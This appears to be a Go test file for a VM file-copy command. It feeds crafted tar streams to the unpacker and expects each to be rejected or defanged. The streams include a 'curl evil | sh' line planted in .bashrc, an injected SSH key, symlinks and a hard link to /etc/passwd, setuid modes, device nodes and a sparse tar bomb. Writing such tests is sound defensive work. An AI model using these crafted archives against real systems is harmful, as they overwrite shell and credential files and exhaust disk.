package cli

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// tarOf builds a tar stream of headers; a regular file's content is
// body[name].
func tarOf(t *testing.T, hdrs []tar.Header, body map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for _, h := range hdrs {
		h.ModTime = time.Unix(1700000000, 0)
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(body[h.Name]))
		}
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			io.WriteString(tw, body[h.Name])
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// sparseTar is a PAX (GNU 1.0) sparse entry: a few KiB of stream that
// archive/tar expands to realSize bytes, nearly all of it a hole.
func sparseTar(name string, realSize int64) []byte {
	data := bytes.Repeat([]byte("x"), 512)
	pax := paxRecord("GNU.sparse.major", "1") + paxRecord("GNU.sparse.minor", "0") +
		paxRecord("GNU.sparse.name", name) + paxRecord("GNU.sparse.realsize", fmt.Sprint(realSize))
	var out []byte
	out = append(out, rawTarHeader("PaxHeaders/"+name, tar.TypeXHeader, int64(len(pax)), 0o644)...)
	out = append(out, padBlock([]byte(pax))...)
	body := padBlock([]byte(fmt.Sprintf("1\n%d\n%d\n", realSize-int64(len(data)), len(data))))
	body = append(body, padBlock(data)...)
	out = append(out, rawTarHeader("GNUSparseFile.0/"+name, tar.TypeReg, int64(len(body)), 0o644)...)
	out = append(out, body...)
	return append(out, make([]byte, 1024)...)
}

// rawTarHeader writes a ustar header block by hand: archive/tar refuses
// to write the PAX sparse records a hostile sender may use.
func rawTarHeader(name string, typ byte, size, mode int64) []byte {
	b := make([]byte, 512)
	copy(b[0:100], name)
	copy(b[100:108], fmt.Sprintf("%07o\x00", mode))
	copy(b[108:116], "0000000\x00")
	copy(b[116:124], "0000000\x00")
	copy(b[124:136], fmt.Sprintf("%011o\x00", size))
	copy(b[136:148], fmt.Sprintf("%011o\x00", 1700000000))
	b[156] = typ
	copy(b[257:265], "ustar\x0000")
	copy(b[148:156], "        ")
	var sum int
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

func padBlock(b []byte) []byte {
	if r := len(b) % 512; r != 0 {
		b = append(b, make([]byte, 512-r)...)
	}
	return b
}

func paxRecord(k, v string) string {
	n := len(k) + len(v) + 3
	for {
		s := fmt.Sprintf("%d %s=%s\n", n, k, v)
		if len(s) == n {
			return s
		}
		n = len(s)
	}
}

// TestSparseTarIsWhatItClaims checks the crafted stream: small on the
// wire, a GiB once read.
func TestSparseTarIsWhatItClaims(t *testing.T) {
	s := sparseTar("out.log", 1<<30)
	tr := tar.NewReader(bytes.NewReader(s))
	h, err := tr.Next()
	if err != nil {
		t.Fatal(err)
	}
	if h.Name != "out.log" || h.Size != 1<<30 || h.Typeflag != tar.TypeReg || len(s) > 10<<10 {
		t.Fatalf("crafted sparse entry: name %q size %d type %c, %d bytes on the wire", h.Name, h.Size, h.Typeflag, len(s))
	}
}

// hostTree records what a directory holds: path -> mode and content.
func hostTree(t *testing.T, root string) map[string]string {
	t.Helper()
	got := map[string]string{}
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == root {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		v := fi.Mode().String()
		switch {
		case fi.Mode().IsRegular():
			b, _ := os.ReadFile(p)
			v += " " + string(b)
		case fi.Mode()&fs.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			v += " -> " + l
		}
		got[rel] = v
		return nil
	})
	return got
}

// TestVMCpOutHostileStreams runs `banger vm cp VM:PATH DEST` against a
// daemon whose guest answers with a crafted tar stream: the same client
// and unpacking code a real copy uses.
func TestVMCpOutHostileStreams(t *testing.T) {
	old := syscall.Umask(0o022)
	t.Cleanup(func() { syscall.Umask(old) })

	file := func(name string, mode int64) tar.Header {
		return tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: mode}
	}
	dir := func(name string) tar.Header { return tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: 0o755} }
	link := func(name, target string) tar.Header {
		return tar.Header{Name: name, Typeflag: tar.TypeSymlink, Linkname: target, Mode: 0o777}
	}
	existing := map[string]string{".bashrc": "-rw-r--r-- mine", "out.log": "-rw-r--r-- old log"}

	tests := []struct {
		name    string
		src     string // guest path asked for
		dest    string // relative to the destination directory; "" is the directory itself
		flags   []string
		config  string
		stream  []byte
		want    map[string]string // the whole destination directory afterwards
		wantErr string            // "" means success
	}{
		{
			name: "file into a directory", src: "/root/new.txt",
			stream: tarOf(t, []tar.Header{file("new.txt", 0o644)}, map[string]string{"new.txt": "hello"}),
			want:   merge(existing, map[string]string{"new.txt": "-rw-r--r-- hello"}),
		},
		{
			name: "file to a new name", src: "/root/new.txt", dest: "renamed.txt",
			stream: tarOf(t, []tar.Header{file("new.txt", 0o600)}, map[string]string{"new.txt": "hello"}),
			want:   merge(existing, map[string]string{"renamed.txt": "-rw------- hello"}),
		},
		{
			name: "tree", src: "/root/build",
			stream: tarOf(t, []tar.Header{dir("build/"), file("build/a", 0o644), dir("build/sub/"), file("build/sub/b", 0o755), link("build/sub/up", "../a")},
				map[string]string{"build/a": "A", "build/sub/b": "B"}),
			want: merge(existing, map[string]string{
				"build": "drwxr-xr-x", "build/a": "-rw-r--r-- A", "build/sub": "drwxr-xr-x",
				"build/sub/b": "-rwxr-xr-x B", "build/sub/up": "Lrwxrwxrwx -> ../a",
			}),
		},
		{
			name: "an entry renamed by the guest", src: "/root/x",
			stream:  tarOf(t, []tar.Header{file(".bashrc", 0o644)}, map[string]string{".bashrc": "curl evil | sh"}),
			want:    existing,
			wantErr: `the stream's entry is named ".bashrc", but "x" was asked for`,
		},
		{
			name: "a renamed tree", src: "/root/build",
			stream:  tarOf(t, []tar.Header{dir(".ssh/"), file(".ssh/authorized_keys", 0o600)}, map[string]string{".ssh/authorized_keys": "ssh-ed25519 AAAA evil"}),
			want:    existing,
			wantErr: `named ".ssh", but "build" was asked for`,
		},
		{
			name: "0777 and setuid are masked", src: "/root/tool",
			stream: tarOf(t, []tar.Header{{Name: "tool", Typeflag: tar.TypeReg, Mode: 0o4777}}, map[string]string{"tool": "#!/bin/sh"}),
			want:   merge(existing, map[string]string{"tool": "-rwxr-xr-x #!/bin/sh"}),
		},
		{
			name: "a world-writable directory is masked", src: "/root/d",
			stream: tarOf(t, []tar.Header{{Name: "d/", Typeflag: tar.TypeDir, Mode: 0o1777}, {Name: "d/f", Typeflag: tar.TypeReg, Mode: 0o2666}}, map[string]string{"d/f": "f"}),
			want:   merge(existing, map[string]string{"d": "drwxr-xr-x", "d/f": "-rw-r--r-- f"}),
		},
		{
			name: "a sparse GiB over the --max-bytes cap", src: "/root/out.bin", flags: []string{"--max-bytes", "1MiB"},
			stream:  sparseTar("out.bin", 1<<30),
			want:    existing,
			wantErr: "raise copy.max_size in the config or pass --max-bytes",
		},
		{
			name: "a sparse GiB over the copy.max_size cap", src: "/root/out.bin", config: "[copy]\nmax_size = \"64MiB\"\n",
			stream:  sparseTar("out.bin", 1<<30),
			want:    existing,
			wantErr: "exceed the 67108864-byte limit",
		},
		{
			name: "endless empty entries are capped too", src: "/root/d", flags: []string{"--max-bytes", "64KiB"},
			stream:  manyEmptyFiles(t, "d", 1000),
			want:    existing,
			wantErr: "limit",
		},
		{
			name: "an existing file without --force", src: "/root/out.log",
			stream:  tarOf(t, []tar.Header{file("out.log", 0o644)}, map[string]string{"out.log": "new log"}),
			want:    existing,
			wantErr: "already exists and replacing it was not asked for (NoReplace): pass --force to replace it",
		},
		{
			name: "an existing file named as DEST without --force", src: "/root/new.log", dest: ".bashrc",
			stream:  tarOf(t, []tar.Header{file("new.log", 0o644)}, map[string]string{"new.log": "new"}),
			want:    existing,
			wantErr: "pass --force",
		},
		{
			name: "an existing file with --force", src: "/root/out.log", flags: []string{"--force"},
			stream: tarOf(t, []tar.Header{file("out.log", 0o644)}, map[string]string{"out.log": "new log"}),
			want:   merge(existing, map[string]string{"out.log": "-rw-r--r-- new log"}),
		},
		{
			name: "an existing directory even with --force", src: "/root/sub", flags: []string{"--force"},
			stream:  tarOf(t, []tar.Header{file("sub", 0o644)}, map[string]string{"sub": "x"}),
			want:    merge(existing, map[string]string{"sub": "drwxr-xr-x"}),
			wantErr: "is a directory: remove it first",
		},
		{
			name: "a symlink out of the copy", src: "/root/build",
			stream:  tarOf(t, []tar.Header{dir("build/"), link("build/notes", "/home/user/.bashrc")}, nil),
			want:    existing,
			wantErr: "absolute path \"/home/user/.bashrc\", which would point outside the copy on this side: symlink pointing outside the copy: unsafe tar entry: if you want such links on this host, pass --outside-links",
		},
		{
			name: "a symlink out of the copy with --outside-links", src: "/root/build", flags: []string{"--outside-links"},
			stream: tarOf(t, []tar.Header{dir("build/"), link("build/python", "/usr/bin/python3")}, nil),
			want:   merge(existing, map[string]string{"build": "drwxr-xr-x", "build/python": "Lrwxrwxrwx -> /usr/bin/python3"}),
		},
		{
			name: "a symlink climbing out", src: "/root/build",
			stream:  tarOf(t, []tar.Header{dir("build/"), link("build/notes", "../.bashrc")}, nil),
			want:    existing,
			wantErr: "climbs out of the copy",
		},
		{
			name: "a symlink climbing out through another link", src: "/root/build",
			stream:  tarOf(t, []tar.Header{dir("build/"), dir("build/x/"), link("build/x/a", ".."), link("build/x/b", "a/../..")}, nil),
			want:    existing,
			wantErr: `a ".." after another component`,
		},
		{
			name: "the entry itself a symlink", src: "/root/out2.log",
			stream:  tarOf(t, []tar.Header{link("out2.log", "/home/user/.bashrc")}, nil),
			want:    existing,
			wantErr: "copy the file or directory it points to instead",
		},
		{
			name: "a hard link to a host file", src: "/root/build",
			stream:  tarOf(t, []tar.Header{dir("build/"), {Name: "build/pw", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"}}, nil),
			want:    existing,
			wantErr: "not a path inside the workspace",
		},
		{
			name: "a device node", src: "/root/build",
			stream:  tarOf(t, []tar.Header{dir("build/"), {Name: "build/sda", Typeflag: tar.TypeBlock, Devmajor: 8, Mode: 0o666}}, nil),
			want:    existing,
			wantErr: "device nodes and fifos",
		},
		{
			name: "a second top-level entry", src: "/root/a",
			stream:  tarOf(t, []tar.Header{file("a", 0o644), file(".profile", 0o644)}, map[string]string{"a": "a", ".profile": "evil"}),
			want:    existing,
			wantErr: `named ".profile", but "a" was asked for`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := startFakeDaemon(t)
			d.Mux.HandleFunc("GET /v1/vms/demo/files", func(w http.ResponseWriter, r *http.Request) {
				if got := r.URL.Query().Get("path"); got != tt.src {
					t.Errorf("guest path asked = %q, want %q", got, tt.src)
				}
				w.Header().Set("Content-Type", "application/x-tar")
				w.Write(tt.stream)
			})
			if tt.config != "" {
				cfgFile := filepath.Join(d.Env["BANGER_HOME"], "config.toml")
				if err := os.WriteFile(cfgFile, []byte(tt.config), 0o644); err != nil {
					t.Fatal(err)
				}
				d.Env["BANGER_CONFIG"] = cfgFile
			}
			dest := t.TempDir()
			os.WriteFile(filepath.Join(dest, ".bashrc"), []byte("mine"), 0o644)
			os.WriteFile(filepath.Join(dest, "out.log"), []byte("old log"), 0o644)
			if strings.Contains(tt.name, "existing directory") {
				os.Mkdir(filepath.Join(dest, "sub"), 0o755)
			}
			target := dest + "/"
			if tt.dest != "" {
				target = filepath.Join(dest, tt.dest)
			}
			args := append([]string{"vm", "cp"}, tt.flags...)
			_, stderr, code := d.run(t, append(args, "demo:"+tt.src, target)...)
			if tt.wantErr == "" && code != 0 {
				t.Fatalf("exit %d, stderr %q", code, stderr)
			}
			if tt.wantErr != "" && (code == 0 || !strings.Contains(stderr, tt.wantErr)) {
				t.Errorf("exit %d, stderr %q; want a failure containing %q", code, stderr, tt.wantErr)
			}
			if diff := cmp.Diff(tt.want, hostTree(t, dest)); diff != "" {
				t.Errorf("destination directory (-want +got):\n%s", diff)
			}
		})
	}
}

func merge(a, b map[string]string) map[string]string {
	m := map[string]string{}
	for k, v := range a {
		m[k] = v
	}
	for k, v := range b {
		m[k] = v
	}
	return m
}

func manyEmptyFiles(t *testing.T, top string, n int) []byte {
	hdrs := []tar.Header{{Name: top + "/", Typeflag: tar.TypeDir, Mode: 0o755}}
	for i := range n {
		hdrs = append(hdrs, tar.Header{Name: fmt.Sprintf("%s/f%d", top, i), Typeflag: tar.TypeReg, Mode: 0o644})
	}
	return tarOf(t, hdrs, nil)
}
